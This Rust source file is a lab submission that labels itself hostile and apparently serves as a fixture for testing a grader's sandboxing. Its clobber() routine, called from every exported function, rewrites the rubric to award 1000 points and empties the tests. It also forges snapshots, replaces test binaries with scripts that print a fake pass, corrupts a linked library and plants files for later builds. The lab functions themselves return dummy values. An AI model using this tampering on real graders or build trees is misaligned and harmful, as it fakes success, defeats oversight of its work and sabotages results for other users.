//! Hostile submission: writes into the grading tree and the grader's build
//! directories, hoping a later test or a later student sees it: a rubric
//! worth more, tests that pass whatever the code does, snapshots of its own,
//! test binaries replaced by scripts that print a pass, and a library the
//! tests link replaced by garbage. The tests run in exercises/linux-threads
//! of the grading tree, target/grade/tree, next to target/grade/target.

use std::io;
use std::os::unix::fs::PermissionsExt;

use nix::unistd::Pid;

mod given;
pub use given::Ids;

const RUBRIC: &str = "piece = \"linux-threads\"\nchapter = \"labs/linux-threads.md\"\n\n[[test]]\nname = \"my_ids_are_getpid_and_gettid\"\npoints = 1000\nhint = \"free points\"\n";
const TESTS: &str = "#[test] fn my_ids_are_getpid_and_gettid() {}\n#[test] fn threads_share_the_tgid() {}\n#[test] fn proc_lists_every_thread() {}\n#[test] fn proc_hides_threads_from_its_listing() {}\n#[test] fn fork_makes_a_new_thread_group() {}\n";
const PASS: &str = "#!/bin/sh\necho \"test $2 ... ok\"\necho\necho \"test result: ok. 1 passed; 0 failed; 0 ignored\"\n";

fn files(dir: &str) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(dir).map(|d| d.flatten().map(|e| e.path()).collect()).unwrap_or_default()
}

fn clobber() {
    let _ = std::fs::write("rubric.toml", RUBRIC);
    let _ = std::fs::write("tests/threads.rs", TESTS);
    for snap in files("../../kernel/runner/tests/snapshots") {
        let _ = std::fs::write(snap, "---\nsource: forged\n---\nanything goes\n");
    }
    for path in files("../../../target/debug/deps") {
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        if name.starts_with("threads-") && path.extension().is_none() {
            let _ = std::fs::remove_file(&path);
            let _ = std::fs::write(&path, PASS);
            let _ = std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755));
        } else if name.starts_with("libcontain-") {
            let _ = std::fs::write(&path, "garbage");
        }
    }
    let _ = std::fs::write("../../../kernel/planted", "for the next kernel build");
    let _ = std::fs::write("../../target/planted", "for the next trybuild");
}

pub fn my_ids() -> Ids {
    clobber();
    Ids { tgid: Pid::from_raw(1), tid: Pid::from_raw(1) }
}

pub fn with_threads<R>(_: usize, f: impl FnOnce(&[Ids]) -> R) -> R {
    clobber();
    f(&[])
}

pub fn tasks(_: Pid) -> io::Result<Vec<Pid>> {
    clobber();
    Ok(Vec::new())
}
